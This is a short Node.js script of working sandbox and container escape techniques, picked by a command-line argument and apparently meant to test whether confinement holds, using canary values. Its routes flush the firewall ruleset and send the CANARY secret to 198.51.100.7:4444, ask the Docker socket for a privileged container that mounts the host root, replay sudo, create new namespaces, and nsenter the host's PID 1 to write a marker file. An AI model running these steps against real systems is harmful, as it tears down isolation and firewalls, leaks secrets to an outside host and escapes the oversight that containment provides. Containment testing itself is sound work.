// Uses whatever right the job has to undo what holds it.
import { spawnSync } from 'node:child_process';
import { request } from 'node:http';
import { connect } from 'node:net';

const run = (program, ...args) => {
  const { status, stderr, error } = spawnSync(program, args, { encoding: 'utf8', timeout: 4000 });
  console.log(program, status, error?.code ?? stderr);
};
const ways = {
  firewall: () => {
    run('nft', 'flush', 'ruleset');
    run('ip', 'link', 'set', 'lo', 'up');
    const socket = connect(4444, '198.51.100.7', () => socket.end(process.env.CANARY));
    socket.setTimeout(2000, () => socket.destroy());
    socket.on('error', (error) => console.log(error.code));
  },
  sudo: () => run('/usr/bin/replay-sudo', '0.4'),
  'container-service': () => {
    const create = { socketPath: '/run/docker.sock', path: '/containers/create', method: 'POST' };
    request(create)
      .on('error', (error) => console.log(error.code))
      .end('{"HostConfig":{"Privileged":true,"Binds":["/:/host"]}}');
  },
  'new-namespaces': () => run('unshare', '--user', '--map-root-user', '--mount', 'sleep', '0.4'),
  'namespaces-of-the-host': () =>
    run('nsenter', '--target', '1', '--mount', 'touch', `/run/replay/escaped-${process.env.CANARY}`),
};
ways[process.argv[2]]();
